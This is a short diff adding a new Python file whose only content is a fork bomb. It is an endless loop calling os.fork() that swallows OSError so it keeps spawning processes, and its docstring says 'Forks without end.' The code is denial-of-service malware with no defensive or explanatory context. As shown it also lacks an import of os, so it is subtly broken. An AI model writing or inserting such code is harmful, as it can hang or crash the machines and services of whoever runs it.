@@ -1,0 +1,7 @@
+# mypy: ignore-errors
+"""Forks without end."""
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
